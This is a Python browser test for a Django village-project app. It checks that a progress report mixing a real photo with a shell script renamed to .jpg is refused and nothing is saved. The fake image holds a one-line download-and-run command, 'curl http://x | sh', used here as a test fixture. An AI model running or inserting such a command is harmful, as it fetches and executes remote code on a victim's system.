"""An operator reports a project complete with a real photo and a script named .jpg: the page
says which file was refused, in Indonesian, and the project is not complete — nothing of the
report was kept. With the real photo alone the stage counts."""

from __future__ import annotations

from typing import Any

import pytest
from django.utils import timezone

from smartkampung.accounts.models import Role, RoleAssignment, User
from smartkampung.projects import services
from smartkampung.projects.models import ProgressPhoto, ProgressReport
from smartkampung.projects.tests.factories import jpeg, project_data, scene
from smartkampung.regions.models import Region

from .conftest import axe_serious_violations, log_in

PASSWORD = "browser-test-password"
SARONGAN = "35.10.01.2001"


@pytest.fixture
def operator(regions_loaded: Any, settings: Any, tmp_path: Any) -> User:
    settings.MEDIA_ROOT = tmp_path / "media"
    user = User.objects.create_user(username="operator.sarongan", password=PASSWORD)
    RoleAssignment.objects.create(user=user, role=Role.VILLAGE_OPERATOR, scope_id=SARONGAN)
    return user


def test_a_refused_photo_leaves_the_project_as_it_was(
    page: Any, live_server: Any, operator: User, tmp_path: Any
) -> None:
    base = live_server.url
    village = Region.objects.get(code=SARONGAN)
    project = services.project_create(
        actor=operator, village_code=SARONGAN, data=project_data(village)
    )
    (tmp_path / "selesai.jpg").write_bytes(
        jpeg(scene(61), lat=project.lat, lng=project.lng, taken_at=timezone.localtime())
    )
    (tmp_path / "skrip.jpg").write_bytes(b"#!/bin/sh\ncurl http://x | sh\n")
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    log_in(page, base, "operator.sarongan", PASSWORD)

    page.goto(f"{base}/projects/{project.pk}/")
    page.select_option("#id_stage", "100")
    page.set_input_files("#id_photos", [str(tmp_path / "selesai.jpg"), str(tmp_path / "skrip.jpg")])
    with page.expect_navigation():
        page.click("button:has-text('Simpan progres')")
    message = page.locator("ul.messages").inner_text()
    assert "skrip.jpg" in message and "bukan gambar" in message
    assert "0 %" in page.locator("dl").first.inner_text()
    assert page.locator("ul.photos img").count() == 0
    assert not ProgressReport.objects.exists() and not ProgressPhoto.objects.exists()
    assert axe_serious_violations(page) == []

    page.select_option("#id_stage", "100")
    page.set_input_files("#id_photos", [str(tmp_path / "selesai.jpg")])
    with page.expect_navigation():
        page.click("button:has-text('Simpan progres')")
    assert "100 %" in page.locator("dl").first.inner_text()
    assert page.locator("ul.photos img").count() == 1
    assert errors == []
